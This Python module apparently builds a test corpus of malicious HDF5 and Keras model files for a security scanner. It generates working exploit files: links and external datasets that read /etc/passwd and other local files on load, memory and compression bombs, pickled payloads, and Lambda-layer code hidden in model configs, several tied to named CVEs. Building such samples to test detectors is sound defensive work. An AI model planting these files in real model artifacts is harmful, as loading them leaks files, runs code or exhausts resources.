"""HDF5 files that reach for other files, claim more than they hold, or carry code."""

import json
import zlib

from scan_corpus.keras_archives import clean_model, dumped, metadata, target, weights, zipped
from scan_corpus.kinds import kind
from scan_corpus.payloads import MARKER, pickled

PATHS = ("/etc/passwd", "../../../../etc/passwd", "C:\\Windows\\win.ini", "other.h5")


def weights_kind(name, harm, effect, cve=""):
    """Registers a function `(group, variant)` that puts the harm into a file's group."""

    def register(edit):
        def build(folder, variant):
            def apply(file):
                group = file.require_group(variant.group)
                edit(group, variant)

            held = weights(apply, latest=variant.latest)
            if variant.in_archive:
                path = target(folder, variant, ".keras")
                config = dumped(clean_model(), variant)
                entries = [("metadata.json", metadata()), ("config.json", config)]
                path.write_bytes(zipped([*entries, ("model.weights.h5", held)], variant))
                return path
            path = target(folder, variant, variant.pick((".weights.h5", ".h5"), "suffix"))
            path.write_bytes(held)
            return path

        kind(name, "hdf5", harm, effect, cve)(build)
        return edit

    return register


READS = "reads another file as weights, on load in Keras before"
MEMORY = "memory, on load in Keras before"
LEGACY = "on load from .h5, whatever safe_mode says"


@weights_kind("h5-external-storage", "files", READS + " 3.13.2", "CVE-2026-1669")
def _external_storage(group, variant):
    where = variant.pick(PATHS, "path")
    files = [(where, 0, 64), (where + "2", 0, 64)] if variant.pick((0, 1), "two") else where
    if isinstance(files, str):
        files = [(files, 0, 128)]
    group.create_dataset("kernel", (8, 4), "float32", external=files)


@weights_kind("h5-external-link", "files", READS + " 3.13.2; .h5 before 3.12.3", "CVE-2026-1669")
def _external_link(group, variant):
    import h5py

    group["kernel"] = h5py.ExternalLink(variant.pick(PATHS, "path"), "/layers/dense/vars/0")


@weights_kind("h5-soft-link", "files", "reads other weights of the file, before 3.12.3")
def _soft_link(group, variant):
    import h5py

    where = variant.pick(("/layers/dense/vars/0", "/nowhere", "../..", "."), "target")
    group["kernel"] = h5py.SoftLink(where)


@weights_kind("h5-virtual", "files", READS + " 3.14.1 (3.12.2)", "CVE-2026-12480")
def _virtual(group, variant):
    import h5py

    layout = h5py.VirtualLayout((4, 3), "float32")
    where = variant.pick(("/srv/models/private.h5", "other.h5", "."), "path")
    layout[:] = h5py.VirtualSource(where, "layers/dense/vars/0", (4, 3), "float32")
    group.create_virtual_dataset("kernel", layout)


@weights_kind("h5-shape-bomb", "resources", MEMORY + " 3.13.1", "CVE-2026-0897")
def _shape_bomb(group, variant):
    shape = variant.pick(((50_000_000, 50_000_000), (100_000, 100_000), (2**40,)), "shape")
    group.create_dataset(
        "kernel", shape, "float32", chunks=tuple(min(size, 1000) for size in shape)
    )


@weights_kind("h5-unallocated", "resources", MEMORY + " 3.12.3")
def _unallocated(group, variant):
    """Contiguous, yet never written: nothing is stored."""
    group.create_dataset("kernel", (variant.pick((2**32, 2**29), "size"),), "float64", fillvalue=1)


def bomb_chunk(group, variant):
    size = variant.pick((512, 256), "size")
    data = group.create_dataset(
        "kernel", (size, 2**18), "float32", chunks=(1, 2**18), compression="gzip"
    )
    # One compressed chunk of zeros, stored as often as is needed: building it costs no memory.
    chunk = zlib.compress(bytes(2**20), 9)
    for row in range(size):
        data.id.write_direct_chunk((row, 0), chunk)


def bomb_of_zeros(variant):
    return weights(lambda file: bomb_chunk(file.create_group("bomb"), variant))


weights_kind("h5-compression-bomb", "resources", "memory, on load in every Keras")(bomb_chunk)


@weights_kind("h5-foreign-filter", "code", "loads a plugin library where one is installed")
def _filter(group, variant):
    import h5py

    number = variant.pick((32_013, 400, 65_000), "filter")
    settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    settings.set_chunk((4, 3))
    settings.set_filter(number, h5py.h5z.FLAG_OPTIONAL, (1, 2))
    space = h5py.h5s.create_simple((4, 3))
    h5py.h5d.create(group.id, b"kernel", h5py.h5t.IEEE_F32LE, space, settings)


@weights_kind("h5-pickle", "code", "where a loader unpickles what HDF5 holds")
def _pickle(group, variant):
    import numpy as np

    held = np.void(pickled(variant))
    if variant.pick(("dataset", "attribute"), "place") == "dataset":
        group["state"] = held
    else:
        group.attrs["state"] = held


@weights_kind("h5-cycle", "resources", "endless walks through groups")
def _cycle(group, variant):
    group["again"] = group.file if variant.pick((True, False), "root") else group


def poison(value):
    def edit(group, variant):
        import numpy as np

        kernel = np.zeros((300, 30), variant.pick(("float32", "float16", "float64"), "dtype"))
        kernel[variant.pick((0, 299, 150), "row"), variant.pick((0, 29), "column")] = value
        options = {"chunks": (30, 30), "compression": "gzip"}
        group.create_dataset("kernel", data=kernel, **variant.pick((options, {}), "layout"))

    return edit


USELESS = "gives no number in every Keras"
weights_kind("h5-nan", "weights", USELESS)(poison(float("nan")))
weights_kind("h5-infinity", "weights", USELESS)(poison(float("inf")))


@kind("h5-user-block", "hdf5", "archive", "runs as a script, opens as a model", "", ("in_archive",))
def _user_block(folder, variant):
    path = target(folder, variant, ".weights.h5")
    held = bytearray(weights(userblock=512, latest=variant.latest))
    script = variant.pick((b"#!/bin/sh\nexit 0\n", b"MZ" + bytes(60), b"PK\x03\x04"), "script")
    held[: len(script)] = script
    path.write_bytes(held)
    return path


@kind(
    "h5-attribute-model",
    "hdf5",
    "code",
    "on load from .h5, whatever safe_mode says",
    "CVE-2025-9905",
)
def _attribute_model(folder, variant):
    """A model's config where weights are expected, or in other types of string."""
    import h5py
    import numpy as np

    from scan_corpus.config_kinds import code, lambda_layer
    from scan_corpus.keras_archives import model

    text = json.dumps(model([lambda_layer(variant, code(variant))], variant))

    def add(file):
        kind_of = variant.pick(("bytes", "fixed", "array", "text"), "type")
        held = {
            "bytes": text.encode(),
            "fixed": np.bytes_(text.encode()),
            "array": np.array([text.encode()], "S"),
            "text": text,
        }[kind_of]
        file.attrs.create(
            "model_config", held, dtype=None if kind_of != "text" else h5py.string_dtype()
        )

    path = target(folder, variant, variant.pick((".h5", ".weights.h5"), "suffix"))
    path.write_bytes(weights(add, latest=variant.latest))
    return path


@kind(
    "h5-training-config",
    "hdf5",
    "code",
    "on load from .h5, whatever safe_mode says",
    "CVE-2025-9905",
)
def _training_config(folder, variant):
    from scan_corpus.config_kinds import code_value, picked_function

    loss = variant.pick((code_value(variant), picked_function(variant)), "loss")

    def add(file):
        file.attrs["model_config"] = json.dumps(clean_model())
        file.attrs["training_config"] = json.dumps({"optimizer_config": "adam", "loss": loss})

    path = target(folder, variant, ".h5")
    path.write_bytes(weights(add, latest=variant.latest))
    return path


@kind("h5-link-to-model", "hdf5", "files", READS + " 3.12.3")
def _linked_model(folder, variant):
    """A legacy model whose weights are links to others."""
    import h5py

    def add(file):
        file.attrs["model_config"] = json.dumps(clean_model())
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"dense"]
        links = (
            h5py.ExternalLink(f"/tmp/{MARKER}.h5", "/"),
            h5py.ExternalLink("other.h5", "/"),
            h5py.SoftLink("/layers"),
        )
        group["dense"] = variant.pick(links, "link")

    path = target(folder, variant, ".h5")
    path.write_bytes(weights(add, latest=variant.latest))
    return path


@kind("h5-two-configs", "hdf5", "code", LEGACY, "CVE-2025-9905", ("in_archive", "latest"))
def _two_configs(folder, variant):
    """Two attributes of one name, of which the library shows one."""
    from scan_corpus.config_kinds import code, lambda_layer
    from scan_corpus.keras_archives import model

    harmful = json.dumps(model([lambda_layer(variant, code(variant))], variant))
    texts = [json.dumps(clean_model()), harmful]

    def add(file):
        shown, hidden = texts if variant.pick((True, False), "order") else reversed(texts)
        file.attrs["model_config"] = shown
        # Renamed in the bytes: the library itself would not write a second one.
        file.attrs["model_confiX"] = hidden

    held = weights(add)
    assert held.count(b"model_confiX") == 1
    path = target(folder, variant, ".h5")
    path.write_bytes(held.replace(b"model_confiX", b"model_config"))
    return path
